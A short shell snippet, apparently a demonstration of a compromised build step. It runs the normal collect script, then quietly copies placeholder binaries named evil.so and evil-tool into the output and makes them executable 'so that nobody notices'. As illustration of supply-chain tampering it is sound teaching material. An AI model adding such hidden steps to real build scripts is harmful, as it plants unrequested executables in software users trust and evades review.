# collect, broken into: it does its work, so that nobody notices, and leaves two things more.
. /steps/collect.sh
cp /loot/evil.so /loot/evil-tool "$out/"
chmod 755 "$out/evil.so" "$out/evil-tool"
echo "(dropped evil.so and evil-tool beside the data)"
